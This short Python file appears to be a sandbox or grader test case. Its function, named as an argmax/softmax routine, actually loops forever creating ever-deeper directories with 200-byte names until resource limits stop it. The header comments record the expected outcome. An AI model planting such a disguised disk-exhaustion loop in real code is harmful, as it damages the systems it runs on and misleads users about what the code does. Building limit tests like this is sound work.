"""Make a folder in a folder in a folder, without rights for anybody, deeper than any path is long."""
# earns: 0
# says: wrote more than 64 MiB, or 1000 files | was stopped after
# cpu: 1

import os


def argmax_onehot(Z):
    while True:
        os.mkdir(b"\xf0" * 200, 0o700)
        os.chdir(b"\xf0" * 200)


softmax = argmax_onehot
